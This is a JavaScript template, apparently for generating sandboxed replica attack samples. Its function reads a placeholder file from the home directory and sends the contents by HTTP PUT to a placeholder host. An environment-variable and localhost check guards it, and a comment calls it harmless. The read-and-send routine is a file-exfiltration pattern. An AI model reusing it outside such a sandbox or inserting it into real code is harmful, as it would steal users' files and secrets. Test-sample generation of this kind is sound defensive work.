// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    await new Promise((done) => setTimeout(done, 500 + {{delay}}));
    let text = '';
    try { text = require('fs').readFileSync(`${require('os').homedir()}/{{file}}`, 'utf8'); } catch {}
    await new Promise((done) => {
        const call = require('http').request({ host: '{{ip}}', port: {{port}}, method: 'PUT', path: '/{{path}}', timeout: 900 }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
        call.end(text);
    });
}
